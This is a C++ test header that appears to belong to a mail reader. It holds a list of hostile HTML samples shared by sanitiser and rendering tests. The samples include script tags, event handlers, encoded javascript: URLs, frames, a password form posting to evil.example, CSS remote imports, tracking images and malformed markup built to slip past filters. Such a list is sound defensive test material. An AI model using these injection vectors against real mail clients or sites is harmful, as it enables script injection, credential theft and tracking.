// SPDX-License-Identifier: GPL-3.0-or-later
// Hostile HTML as it arrives in mail. Every active payload carries the word "evil" (what a
// browser would show as text says "inert" instead). Shared by the sanitiser's unit tests and
// the reader's rendering tests.
#pragma once

namespace lb::test {

inline const char16_t *const kHostileSamples[] = {
    // Scripts in every spelling.
    u"<script>evil()</script>",
    u"<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    u"<script/src='//evil.example/x.js'>evil</script>",
    u"<scr<script>ipt>inert()</scr</script>ipt>", // only text to a browser too
    u"<script>evil() /* never closed",
    u"<script\n>evil()</script\n>",
    u"<svg><script>evil()</script><foreignObject><img src=x onerror=evil()></svg>",
    u"<math><mtext><img src=x onerror=evil()></math>",
    u"<noscript><img src=http://evil.example/n.png></noscript>",
    u"<template><img src=http://evil.example/t.png></template>",
    // Event handlers.
    u"<img src=cid:nothing onerror=\"evil()\">",
    u"<body onload=evil()>text</body>",
    u"<p OnMouseOver='evil()'>x</p>",
    u"<div/onclick=evil()>x</div>",
    u"<a href=# onclick=evil()>x</a>",
    // Script URLs, obfuscated.
    u"<a href=\"javascript:evil()\">x</a>",
    u"<a href=\"JaVaScRiPt:evil()\">x</a>",
    u"<a href=\" &#14;  javascript:evil()\">x</a>",
    u"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;evil()\">x</a>",
    u"<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;evil()\">x</a>",
    u"<a href=\"&#0000106avascript:evil()\">x</a>",
    u"<a href=\"jav&#x09;ascript:evil()\">x</a>",
    u"<a href=\"jav\nascript:evil()\">x</a>",
    u"<a href=\"vbscript:evil\">x</a>",
    u"<a href=\"data:text/html;base64,ZXZpbA==\">x</a>",
    u"<a href=\"file:///etc/evil\">x</a>",
    u"<img src=\"javascript:evil()\">",
    u"<img src=\"data:image/svg+xml,<svg onload=evil()>\">",
    u"<img src=\"file:///evil.png\">",
    u"<img src=\"evil.png\">",
    // Frames, objects, forms.
    u"<iframe src=\"http://evil.example/\"></iframe>",
    u"<iframe srcdoc=\"<script>evil()</script>\">",
    u"<frameset><frame src=http://evil.example/></frameset>",
    u"<object data=\"http://evil.example/x.swf\"><param name=evil></object>",
    u"<embed src=\"http://evil.example/x.swf\">",
    u"<applet code=evil.class></applet>",
    u"<form action=\"http://evil.example/steal\"><input name=password value=evil>"
    "<button formaction=http://evil.example/>Go</button></form>",
    u"<select><option>evil</option></select><textarea>evil</textarea>",
    u"<isindex action=http://evil.example/>",
    // Head elements that act.
    u"<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
    u"<base href=\"http://evil.example/\"><img src=relative.png>",
    u"<link rel=stylesheet href=\"http://evil.example/s.css\">",
    u"<link rel=prefetch href=//evil.example/>",
    // Remote content through CSS.
    u"<style>@import url(http://evil.example/a.css);</style>",
    u"<style>@import 'http://evil.example/a.css';</style>",
    u"<style>body{background:url(\"http://evil.example/bg.png\")}</style>",
    u"<style>p{background:u\\72l(http://evil.example/e.png)}</style>",
    u"<style>p{width:expression(evil())}</style>",
    u"<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)}</style>",
    u"<p style=\"background-image:url(http://evil.example/p.png)\">x</p>",
    u"<p style=\"background:URL ( //evil.example/p.png )\">x</p>",
    u"<p style=\"behavior:url(evil.htc)\">x</p>",
    u"<p style=\"list-style-image: url(data:image/png;base64,evil)\">x</p>",
    u"<p style=\"background:url(&#104;ttp://evil.example/e.png)\">x</p>",
    // Remote images in attributes.
    u"<img src=\"http://evil.example/track.gif\">",
    u"<img src=\"HTTPS://EVIL.EXAMPLE/TRACK.GIF\">",
    u"<img src=\" //evil.example/track.gif \">",
    u"<img srcset=\"http://evil.example/1.png 1x\">",
    u"<img src=cid:x lowsrc=http://evil.example/l.png dynsrc=http://evil.example/d.avi>",
    u"<table background=\"http://evil.example/t.png\"><tr><td background=//evil.example/>x",
    u"<body background=\"http://evil.example/b.png\">x",
    u"<video poster=http://evil.example/p.png><source src=http://evil.example/v.mp4></video>",
    u"<audio src=http://evil.example/a.mp3></audio>",
    // Unterminated and malformed markup.
    u"<img src=\"http://evil.example/x.png",
    u"<a href=\"javascript:evil()",
    u"<<img src=x onerror=evil()>>",
    u"<img \"\"\"><script>evil()</script>\">",
    u"<!--<img src=\"--><img src=x onerror=evil()//\">",
    u"<![CDATA[<script>inert()</script>]]>", // a bogus comment up to the first '>'
    u"<xmp><img src=x onerror=evil()></xmp>",
    u"<style><img src=\"</style><img src=x onerror=evil()//\">",
    u"<title><img src=x onerror=evil()></title>",
    u"<p <img src=x onerror=evil()>>x",
    u"<img src=x onerror\n=\nevil()>",
    u"<img/src=x\x0Conerror=evil()>",
    u"<a href=\"http://ok.example/\"\"onmouseover=\"evil()\">x</a>",
};

} // namespace lb::test
